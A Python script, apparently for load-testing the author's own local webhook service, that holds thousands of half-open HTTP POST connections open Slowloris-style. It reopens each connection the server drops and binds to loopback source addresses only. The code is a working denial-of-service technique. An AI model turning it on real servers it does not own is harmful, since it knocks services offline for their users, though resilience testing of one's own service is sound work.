#!/usr/bin/env python3
"""Holds COUNT half-open requests against HOST:PORT until killed: each
connection sends a request line and one header, then nothing; one the
server closes is opened again at once (a second later if it was refused
within a second, rather than spinning), so the attack lasts as long as this
runs. Connects from 127.0.0.2 to 127.0.0.17 in turn (loopback only), as one
address's ephemeral ports would run out. Prints how many are open and how
many the server closed, every second.

    half_open.py 127.0.0.1 8080 9995
"""
import collections
import errno
import resource
import selectors
import socket
import sys
import time

HEAD = b"POST /webhooks/sms HTTP/1.1\r\nHost: ibiki\r\nContent-Type: application/json\r\n"
SOURCES = 16


def main() -> None:
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < count + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 64), hard))
    selector = selectors.DefaultSelector()
    opened = closed = 0
    turn = 0
    # When each refused connection is opened again.
    later = collections.deque()

    def open_one() -> None:
        nonlocal opened, turn
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.bind((f"127.0.0.{2 + turn % SOURCES}", 0))
        turn += 1
        sock.setblocking(False)
        error = sock.connect_ex((host, port))
        if error not in (0, errno.EINPROGRESS):
            sock.close()
            return
        selector.register(sock, selectors.EVENT_WRITE, ("connecting", time.monotonic()))
        opened += 1

    for _ in range(count):
        open_one()
    last = time.monotonic()
    while True:
        for key, _ in selector.select(timeout=0.2):
            sock = key.fileobj
            state, since = key.data
            if state == "connecting":
                try:
                    sock.send(HEAD)
                except OSError:
                    pass
                selector.modify(sock, selectors.EVENT_READ, ("open", since))
                continue
            try:
                data = sock.recv(4096)
            except OSError:
                data = b""
            if not data:
                selector.unregister(sock)
                sock.close()
                closed += 1
                opened -= 1
                now = time.monotonic()
                if now - since < 1:
                    later.append(now + 1)
                else:
                    open_one()
        now = time.monotonic()
        while later and later[0] <= now:
            later.popleft()
            open_one()
        if now - last >= 1:
            last = time.monotonic()
            print(f"open {opened} closed by the server {closed}", flush=True)


if __name__ == "__main__":
    main()
